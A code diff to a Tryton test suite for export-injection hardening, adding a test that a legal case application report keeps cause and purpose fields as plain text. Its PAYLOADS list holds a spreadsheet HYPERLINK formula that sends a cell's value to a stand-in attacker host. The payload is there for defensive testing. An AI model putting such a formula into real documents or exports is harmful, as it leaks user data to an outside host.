@@ -24,7 +24,7 @@ from trytond.tests.test_tryton import with_transaction
 from trytond.transaction import Transaction
 
 from .hardening import SuiteTestCase
-from .test_bad_input import PERIOD, phone_org
+from .test_bad_input import PERIOD, _case, phone_org, staff_org
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击")',
@@ -188,3 +188,17 @@ class ExportInjectionTestCase(SuiteTestCase):
             oext, content, _, _ = Report.execute([bill.id], {})
         self.assertOdtText(content, [PAYLOADS[0]])
         self.assertEqual(dt.date(2026, 3, 1), bill.period)
+
+    @with_transaction()
+    def test_legal_case_application_report(self):
+        "LA-1: the litigation application keeps the cause and purpose as text"
+        pool = Pool()
+        Case = pool.get('legal.case')
+        Report = pool.get('legal.case.application', type='report')
+        org = staff_org()
+        with set_company(org['company']):
+            case, = Case.create([dict(_case(org),
+                        cause=NAMES[0], purpose=NAMES[1],
+                        desired_outcome=NAMES[3])])
+            oext, content, _, _ = Report.execute([case.id], {})
+        self.assertOdtText(content, [NAMES[0], NAMES[1]])
